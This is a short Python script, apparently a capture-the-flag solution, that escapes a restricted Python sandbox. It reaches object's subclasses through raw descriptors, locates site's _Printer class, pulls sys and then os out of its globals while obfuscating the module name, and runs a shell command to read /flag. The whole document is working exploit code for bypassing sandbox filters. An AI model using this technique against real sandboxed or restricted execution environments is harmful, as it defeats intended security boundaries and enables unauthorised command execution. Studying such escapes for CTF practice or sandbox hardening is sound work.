# Uses the raw descriptors stored in vars(type) instead of attribute syntax:
# __base__ is fetched as a getset descriptor and applied to int by hand, and
# __subclasses__ is called unbound. Target: site's _Printer, whose module
# globals expose sys, hence sys.modules['os'].
sc = vars(type)['__subclasses__']
o = vars(type)['__base__'].__get__(int)
for k in sc(o):
    if k.__name__[1:] == 'Printer':
        g = vars(k)['__init__'].__globals__
        osm = g['sys'].modules['o' + 's']
        print(osm.popen('cat /flag').read())
        break
